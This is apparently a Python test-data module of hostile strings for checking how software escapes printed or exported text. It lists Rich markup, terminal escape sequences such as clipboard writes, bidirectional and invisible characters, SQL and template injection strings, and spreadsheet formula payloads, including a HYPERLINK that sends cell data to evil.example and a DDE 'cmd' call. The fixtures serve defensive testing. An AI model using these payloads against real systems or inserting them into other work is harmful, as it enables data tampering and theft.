"""Texts and names that somebody chose to do harm where they are printed, quoted or opened."""

from __future__ import annotations

MARKUP = [
    "Smith [vip, cancelled by phone]", "Tour [de luxe]", "[/]", "[/bold]", "[bold]x", "[red]x[/red]", "[[x]]", "\\[x]",
    "[link=http://evil.example]x[/link]", "[@click=app.bell]x[/]", "[blink]", "[", "]", "[]", "[ ]", "[#ff0000]x",
    "a:100:b", ":smile:", ":warning:", ":x:", ":skull_and_crossbones:", "{x}", "{0}", "{}", "%s", "%(x)s", "%", "$x",
]  # fmt: skip
"""Rich's markup and emoji codes, and the marks of Python's ways to format."""
CONTROL = [
    "\x1b]52;c;ZXZpbA==\x1b\\", "\x1b]52;c;ZXZpbA==\x07", "\x1b[2J", "\x1b[31mred", "\x1b]0;title\x07", "\x1bc",
    "\x1b]8;;http://evil.example\x1b\\x\x1b]8;;\x1b\\", "\x1b[6n", "\x1bP$q\x1b\\", "\x1b[1A\x1b[2K", "\x9b2J",
    "\x90x\x9c", "\x9d52;c;x\x9c", "a\rb", "a\bb", "a\x0cb", "a\x0bb", "a\x07b", "a\x00b", "a\x7fb", "a\x85b", "a\x0eb",
    "a\nb", "a\r\nb", "a\n2026-01-01T00:00:00Z error bookeo: forged line", "a\u2028b", "a\u2029b", "a\tb",
    "\u202egpj.exe", "\u202dabc", "\u2066x\u2069", "\u2067x", "\u2068x", "\u200ex", "\u200fx", "\u061cx",
    "\u200bx", "\ufeffx", "\u00adx", "\U000e0041x", "\ue000x", "\U000f0000x",
]  # fmt: skip
"""Commands to a terminal, ends of lines, and characters that turn the direction of writing or are not seen."""
SQL = [
    "'", "''", '"', '""', "x'; DROP TABLE t; --", 'x"; DROP TABLE t; --', "'||x||'", "/* x", "*/", "--", "\\", "\\'",
    "x;y", "a.b", "?", "$1", ":x", "`x`", "{{ 7*7 }}", "{% raw %}", "%%s", 'x" AS SELECT 1; --',
]  # fmt: skip
FORMULAS = [
    '=HYPERLINK("http://evil.example?"&A1,"click")', "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "＝1+1",
    "=cmd|' /C calc'!A0", "+61 400 123 777",
]  # fmt: skip
"""What a spreadsheet takes for a formula."""
TEXTS = [*MARKUP, *CONTROL, *SQL, *FORMULAS]
PLAIN = [
    "Smith",
    "Zoë Łukasiewicz",
    "東京",
    "שלום",
    "می\u200cخواهم",
    "👩\u200d🚒",
    "O'Brien & Söhne",
    "a  b",
    "naïve — “x”",
]
"""What is shown as it is."""
